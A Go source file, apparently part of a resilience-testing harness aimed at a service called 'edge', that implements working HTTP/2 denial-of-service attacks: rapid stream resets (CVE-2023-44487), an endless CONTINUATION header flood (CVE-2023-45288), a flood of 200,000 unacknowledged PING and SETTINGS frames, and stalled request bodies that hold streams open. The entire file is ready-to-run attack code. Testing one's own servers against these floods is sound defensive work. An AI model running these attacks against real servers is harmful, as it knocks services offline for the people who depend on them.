package attack

import (
	"bytes"
	"context"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// speak connects over HTTP/2 and says hello. What the edge sends is thrown away, or not read at all.
func (a *attacker) speak(ctx context.Context, reads bool) (net.Conn, *http2.Framer, error) {
	conn, err := a.handshake(ctx, http2.NextProtoTLS)
	if err != nil {
		return nil, nil, err
	}
	if reads {
		go func() { _, _ = io.Copy(io.Discard, conn) }() // ends with the connection
	}
	framer := http2.NewFramer(conn, strings.NewReader(""))
	_, err = io.WriteString(conn, http2.ClientPreface)
	if err == nil {
		err = framer.WriteSettings()
	}
	if err != nil {
		_ = conn.Close()
		return nil, nil, err
	}
	return conn, framer, nil
}

// header is the block of a request that has a body to come.
func header(more ...hpack.HeaderField) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	for _, f := range append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "edge"}, {Name: ":path", Value: "/v1/events"},
		{Name: "x-write-key", Value: hostileKey},
	}, more...) {
		_ = encoder.WriteField(f) // a buffer takes all
	}
	return block.Bytes()
}

// rapidResets opens requests and takes each back at once (CVE-2023-44487), two thousand a connection.
func rapidResets(ctx context.Context, a *attacker) string {
	conn, framer, err := a.speak(ctx, true)
	if err != nil {
		return a.lost(ctx, err)
	}
	defer conn.Close()
	block := header()
	for stream := uint32(1); stream < 4000; stream += 2 {
		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true})
		if err == nil {
			err = framer.WriteRSTStream(stream, http2.ErrCodeCancel)
		}
		if err != nil {
			return a.lost(ctx, err)
		}
	}
	return "all taken"
}

// continuations sends one header that never ends (CVE-2023-45288).
func continuations(ctx context.Context, a *attacker) string {
	conn, framer, err := a.speak(ctx, true)
	if err != nil {
		return a.lost(ctx, err)
	}
	defer conn.Close()
	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: header()}); err != nil {
		return a.lost(ctx, err)
	}
	var more bytes.Buffer
	encoder := hpack.NewEncoder(&more)
	for range 8 {
		_ = encoder.WriteField(hpack.HeaderField{Name: "x-filler", Value: strings.Repeat("v", 1000), Sensitive: true})
	}
	for range 1000 { // 8 MB
		if err := framer.WriteContinuation(1, false, more.Bytes()); err != nil {
			return a.lost(ctx, err)
		}
	}
	return "all taken"
}

// controls sends what must be acknowledged, and reads no acknowledgement.
func controls(ctx context.Context, a *attacker) string {
	conn, framer, err := a.speak(ctx, false)
	if err != nil {
		return a.lost(ctx, err)
	}
	defer conn.Close()
	for n := range 200_000 {
		if n%2 == 0 {
			err = framer.WritePing(false, [8]byte{})
		} else {
			err = framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535})
		}
		if err != nil {
			return a.lost(ctx, err)
		}
	}
	return "all taken"
}

// stalledStreams opens a hundred requests, sends the beginning of each body, and waits.
func stalledStreams(ctx context.Context, a *attacker) string {
	conn, framer, err := a.speak(ctx, true)
	if err != nil {
		return a.lost(ctx, err)
	}
	defer conn.Close()
	for stream := uint32(1); stream < 200; stream += 2 {
		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: header(), EndHeaders: true})
		if err == nil {
			err = framer.WriteData(stream, false, []byte("["))
		}
		if err != nil {
			return a.lost(ctx, err)
		}
	}
	select {
	case <-ctx.Done():
	case <-time.After(patience / 2):
	}
	return "left"
}
